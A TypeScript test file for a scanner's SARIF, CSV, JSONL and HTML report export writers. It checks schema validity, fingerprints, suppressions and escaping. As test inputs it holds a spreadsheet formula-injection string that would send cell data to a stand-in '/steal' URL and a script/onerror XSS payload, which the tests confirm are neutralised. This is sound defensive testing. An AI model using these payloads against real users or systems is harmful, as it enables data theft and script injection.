// The export writers (CONTRACT §17) as pure functions of items built here: SARIF valid against the
// OASIS schema with levels, rules, fingerprints, suppressions and coverage; CSV that no target can
// turn into a formula; JSONL one item a line; the report escaping everything a target wrote.
import { describe, expect, it } from 'vitest';
import { findingCatalog } from '../../src/products/findings-catalog.ts';
import type { ExportFinding, ExportJob, FindingEntry } from '../../src/jobs/exports/export-items.ts';
import {
  executionSuccessful,
  sarifHead,
  sarifLevel,
  sarifResult,
  sarifTail,
} from '../../src/jobs/exports/sarif-writer.ts';
import { FINGERPRINT_KEY, findingLocation } from '../../src/jobs/exports/finding-location.ts';
import {
  FINDING_COLUMNS,
  OBJECT_COLUMNS,
  csvCell,
  csvFindingRow,
  csvHeader,
  csvObjectRow,
} from '../../src/jobs/exports/csv-writer.ts';
import { jsonlLine } from '../../src/jobs/exports/jsonl-writer.ts';
import { renderReport } from '../../src/jobs/exports/report-writer.ts';
import { sarifSchemaErrors } from '../helpers/sarif-schema.ts';

const HOSTILE_TXT = '=HYPERLINK("http://127.0.0.1/steal?d="&A1,"Click me")';

const lane = (name: string, over: Partial<ExportJob['lanes'][number]> = {}): ExportJob['lanes'][number] => ({
  lane: name,
  status: 'completed',
  tasks: 4,
  completed: 4,
  partial: 0,
  unavailable: 0,
  timeout: 0,
  skipped: 0,
  failed: 0,
  cancelled: 0,
  budgetExhausted: 0,
  ...over,
});

function job(over: Partial<ExportJob> = {}): ExportJob {
  return {
    jobRef: 'job_0000000000000000000000000A',
    product: 'scan.recursive.v1',
    status: 'completed',
    terminal: true,
    createdAt: '2026-12-01T10:00:00.000Z',
    startedAt: '2026-12-01T10:00:01.000Z',
    completedAt: '2026-12-01T10:05:00.000Z',
    target: { type: 'domain_name', value: 'example.test' },
    profile: 'balanced',
    progress: { tasksQueued: 0, tasksDone: 8, objects: 3, findings: 3 },
    lanes: [lane('dns'), lane('web')],
    coverage: { complete: true, limitations: [] },
    ledger: null,
    result: null,
    baseline: null,
    changes: null,
    pollAfterMs: 0,
    links: { self: '/v2/jobs/x', results: '', findings: '', changes: '' },
    ...over,
  } as ExportJob;
}

let n = 0;
function finding(over: Partial<ExportFinding> = {}, subject = { type: 'host', key: 'www.example.test' }): FindingEntry {
  n += 1;
  const id = `fnd_${String(n).padStart(26, '0')}`;
  return {
    item: {
      findingId: id,
      code: 'web_hsts_missing',
      severity: 'medium',
      confidence: 'confirmed',
      title: 'No HSTS on HTTPS',
      summary: 'https://www.example.test/ answered without Strict-Transport-Security.',
      objectId: `obj_${String(n).padStart(26, '0')}`,
      evidence: [{ ref: `ev_${String(n).padStart(26, '0')}`, summary: 'GET / 200' }],
      sources: [{ lane: 'http', source: 'direct' }],
      detectedAt: '2026-12-01T10:02:00.000Z',
      change: null,
      suppressed: null,
      ...over,
    },
    subject,
  };
}

function sarif(j: ExportJob, entries: FindingEntry[]) {
  const text = `${sarifHead(j, findingCatalog, { version: '2.0.0', helpBase: 'http://127.0.0.1:8080/docs/findings' })}${entries
    .map(sarifResult)
    .join(',')}${sarifTail()}`;
  return { text, log: JSON.parse(text) };
}

describe('SARIF writer', () => {
  const suppressed = finding({
    code: 'dmarc_policy_none',
    severity: 'medium',
    suppressed: {
      suppressionId: 'sup_00000000000000000000000001',
      reason: 'accepted_risk',
      expiresAt: '2027-06-01T00:00:00.000Z',
    },
  });
  const entries = [
    finding({ code: 'scan_exposed_env_file', severity: 'high' }, { type: 'url', key: 'https://www.example.test/.env' }),
    finding(
      { code: 'spf_all_pass', severity: 'critical', summary: HOSTILE_TXT },
      { type: 'domain', key: 'example.test' },
    ),
    finding({ code: 'dnssec_not_signed', severity: 'info' }, { type: 'domain', key: 'example.test' }),
    finding({ code: 'mx_reverse_dns_missing', severity: 'low' }, { type: 'ip_address', key: '2001:db8::25' }),
    finding({ code: 'web_hsts_missing', suppressed: null }, { type: 'url', key: 'http://www.example.test:8080/a?b=c' }),
    suppressed,
  ];

  it('is valid against the OASIS SARIF 2.1.0 schema, suppressed and incomplete runs included', () => {
    expect(sarifSchemaErrors(sarif(job(), entries).log)).toEqual([]);
    const partial = job({
      status: 'partial',
      coverage: { complete: false, limitations: [{ code: 'budget_exhausted', message: 'The budget ran out.' }] },
      lanes: [
        lane('dns'),
        lane('web', { status: 'partial', completed: 2, timeout: 2 }),
        lane('mail', { status: 'unavailable', completed: 0, unavailable: 4 }),
      ],
    });
    expect(sarifSchemaErrors(sarif(partial, entries).log)).toEqual([]);
    expect(sarifSchemaErrors(sarif(partial, []).log)).toEqual([]);
  });

  it('has one rule per catalog code, with its help URI into the catalog and its default level', () => {
    const { log } = sarif(job(), []);
    const rules = log.runs[0].tool.driver.rules as Array<Record<string, any>>;
    expect(rules.map((r) => r.id).sort()).toEqual([...new Set(findingCatalog.map((f) => f.code))].sort());
    const hsts = rules.find((r) => r.id === 'web_hsts_missing')!;
    expect(hsts.helpUri).toBe('http://127.0.0.1:8080/docs/findings#web_hsts_missing');
    expect(hsts.defaultConfiguration.level).toBe('warning');
    expect(hsts.shortDescription.text).toBe('No HSTS on HTTPS');
    expect(hsts.fullDescription.text.length).toBeGreaterThan(20);
    expect(hsts.properties['security-severity']).toBe('5.5');
  });

  it('maps severity to level: critical/high → error, medium → warning, low/info → note', () => {
    expect(['critical', 'high', 'medium', 'low', 'info'].map((s) => sarifLevel(s as never))).toEqual([
      'error',
      'error',
      'warning',
      'note',
      'note',
    ]);
    const { log } = sarif(job(), entries);
    expect(log.runs[0].results.map((r: any) => r.level)).toEqual([
      'error',
      'error',
      'note',
      'note',
      'warning',
      'warning',
    ]);
  });

  it('locates a URL by its address, a host by https://host/, names and addresses logically; every path relative', () => {
    const { log } = sarif(job(), entries);
    const [env, spf, , ip, http] = log.runs[0].results;
    expect(env.properties.url).toBe('https://www.example.test/.env');
    expect(env.locations[0].logicalLocations[0].fullyQualifiedName).toBe('https://www.example.test/.env');
    expect(env.locations[0].physicalLocation.artifactLocation.uri).toBe('www.example.test/.env');
    expect(http.locations[0].physicalLocation.artifactLocation.uri).toBe('www.example.test_8080/a');
    expect(spf.locations[0].logicalLocations[0].fullyQualifiedName).toBe('example.test');
    expect(spf.locations[0].physicalLocation.artifactLocation.uri).toBe('dns/example.test');
    expect(ip.locations[0].physicalLocation.artifactLocation.uri).toBe('ip_address/2001%3Adb8%3A%3A25');
    expect(findingLocation({ type: 'host', key: 'www.example.test' }).url).toBe('https://www.example.test/');
    for (const r of log.runs[0].results)
      expect(r.locations[0].physicalLocation.artifactLocation.uri).not.toMatch(/^[a-z]+:/);
  });

  it('fingerprints the finding identity: the same code on the same object in another job, the same print', () => {
    const a = JSON.parse(sarifResult(finding({ code: 'spf_all_pass' }, { type: 'domain', key: 'example.test' })));
    const b = JSON.parse(
      sarifResult(
        finding(
          { code: 'spf_all_pass', summary: 'reworded', severity: 'high' },
          { type: 'domain', key: 'example.test' },
        ),
      ),
    );
    const other = JSON.parse(sarifResult(finding({ code: 'spf_all_pass' }, { type: 'domain', key: 'other.test' })));
    expect(a.partialFingerprints[FINGERPRINT_KEY]).toMatch(/^[0-9a-f]{64}$/);
    expect(b.partialFingerprints).toEqual(a.partialFingerprints);
    expect(other.partialFingerprints).not.toEqual(a.partialFingerprints);
  });

  it('marks a suppressed finding with an external suppression; a missing or null field is no suppression', () => {
    const { log } = sarif(job(), entries);
    const results = log.runs[0].results;
    expect(results[5].suppressions).toEqual([
      expect.objectContaining({ kind: 'external', justification: expect.stringContaining('accepted risk') }),
    ]);
    expect(results[5].suppressions[0].justification).toContain('sup_00000000000000000000000001');
    for (const r of results.slice(0, 5)) expect(r.suppressions).toBeUndefined();
    expect(entries[0]!.item.suppressed).toBeNull();
  });

  it('keeps coverage: a partial or unavailable lane makes execution unsuccessful, one notification each', () => {
    expect(executionSuccessful(job())).toBe(true);
    expect(sarif(job(), []).log.runs[0].invocations[0]).toMatchObject({
      executionSuccessful: true,
      toolExecutionNotifications: [],
    });
    const partial = job({
      status: 'partial',
      coverage: { complete: false, limitations: [{ code: 'budget_exhausted', message: 'The budget ran out.' }] },
      lanes: [
        lane('dns'),
        lane('web', { status: 'partial', completed: 2, timeout: 2 }),
        lane('mail', { status: 'unavailable', completed: 0, unavailable: 4 }),
      ],
    });
    const inv = sarif(partial, []).log.runs[0].invocations[0];
    expect(inv.executionSuccessful).toBe(false);
    expect(inv.toolExecutionNotifications.map((x: any) => x.descriptor.id)).toEqual([
      'lane/web',
      'lane/mail',
      'limitation/budget_exhausted',
    ]);
    // Complete lanes but a job that did not complete still never reads as a clean run.
    expect(executionSuccessful(job({ status: 'partial' }))).toBe(false);
  });
});

/** RFC 4180 reader for the checks: quoted fields with doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

describe('CSV writer', () => {
  it('prefixes every cell a target can start with = + - @ tab or CR, and quotes as RFC 4180 asks', () => {
    for (const s of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) expect(csvCell(s)).toMatch(/^"?'/);
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(null)).toBe('');
  });

  it('a hostile TXT value never reaches a spreadsheet as a formula, in any column', () => {
    const hostile = finding(
      {
        summary: HOSTILE_TXT,
        title: HOSTILE_TXT,
        evidence: [{ ref: 'ev_00000000000000000000000001', summary: HOSTILE_TXT }],
      },
      { type: 'host', key: '@evil.example.test' },
    );
    const text = csvHeader('findings') + csvFindingRow(hostile);
    const [header, cells] = parseCsv(text);
    expect(header).toEqual([...FINDING_COLUMNS]);
    expect(cells).toHaveLength(FINDING_COLUMNS.length);
    for (const c of cells!) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    const col = (name: (typeof FINDING_COLUMNS)[number]) => cells![FINDING_COLUMNS.indexOf(name)];
    expect(col('summary')).toBe(`'${HOSTILE_TXT}`);
    expect(col('evidence')).toBe(`'${HOSTILE_TXT}`);
    expect(col('objectKey')).toBe("'@evil.example.test");
    expect(col('suppressed')).toBe('false');
  });

  it('writes one row per item with the documented columns, suppression and objects included', () => {
    const s = finding({
      suppressed: { suppressionId: 'sup_00000000000000000000000001', reason: 'false_positive', expiresAt: null },
    });
    const rows = parseCsv(csvHeader('findings') + csvFindingRow(finding()) + csvFindingRow(s));
    expect(rows).toHaveLength(3);
    expect(rows[2]![FINDING_COLUMNS.indexOf('suppressed')]).toBe('true');
    expect(rows[2]![FINDING_COLUMNS.indexOf('suppressionReason')]).toBe('false_positive');
    const objects = parseCsv(
      csvHeader('objects') +
        csvObjectRow({
          objectId: 'obj_00000000000000000000000001',
          type: 'host',
          key: 'www.example.test',
          distance: 0,
          firstSeenAt: '2026-12-01T10:00:00.000Z',
          lanes: [{ lane: 'dns', status: 'completed' }],
          projection: { txt: [HOSTILE_TXT] },
          evidence: [],
          change: 'changed',
          changedFields: ['txt'],
        }),
    );
    expect(objects[0]).toEqual([...OBJECT_COLUMNS]);
    expect(objects[1]![OBJECT_COLUMNS.indexOf('projection')]).toBe(JSON.stringify({ txt: [HOSTILE_TXT] }));
    expect(objects[1]![OBJECT_COLUMNS.indexOf('changedFields')]).toBe('txt');
  });
});

describe('JSONL writer', () => {
  it('writes the item as it is, one line, with no line separator a splitter would cut at', () => {
    const item = finding({ summary: `a\u2028b\u2029c\nd` }).item;
    const line = jsonlLine(item);
    expect(line.endsWith('\n')).toBe(true);
    expect(line.slice(0, -1)).not.toMatch(/[\n\r\u2028\u2029]/);
    expect(JSON.parse(line)).toEqual(item);
  });
});

describe('report writer', () => {
  const script = '<script>alert(1)</script><img src=x onerror=alert(2)>';
  const input = (withFindings: boolean) => ({
    job: job({ target: { type: 'domain_name', value: `${script}.test` } }),
    findings: withFindings
      ? {
          counts: { critical: 0, high: 1, medium: 1, low: 0, info: 0 },
          total: 2,
          suppressedCount: 1,
          listed: [
            finding(
              { severity: 'high', summary: script, title: `"'${script}` },
              { type: 'url', key: `https://x.test/${script}` },
            ),
            finding({
              summary: 'accepted',
              suppressed: {
                suppressionId: 'sup_00000000000000000000000001',
                reason: 'compensating_control',
                expiresAt: null,
              },
            }),
          ],
        }
      : null,
    generatedAt: '2026-12-01T11:00:00.000Z',
  });

  it('escapes every target string: no tag, no attribute a target wrote', () => {
    const html = renderReport(input(true));
    const tags = [...html.matchAll(/<([a-zA-Z][a-zA-Z0-9]*)/g)].map((m) => m[1]!.toLowerCase());
    expect(tags).not.toContain('script');
    expect(tags).not.toContain('img');
    for (const tag of html.match(/<[^>]*>/g) ?? []) expect(tag).not.toMatch(/\son\w+=/i);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  });

  it('shows suppressed findings apart, and says when findings are omitted', () => {
    const html = renderReport(input(true));
    const suppressedPart = html.slice(html.indexOf('id="suppressed"'));
    expect(suppressedPart).toContain('compensating control');
    expect(html.slice(0, html.indexOf('id="suppressed"'))).not.toContain('compensating control');
    const omitted = renderReport(input(false));
    expect(omitted).toContain('Findings omitted');
    expect(omitted).not.toContain('id="suppressed"');
  });
});
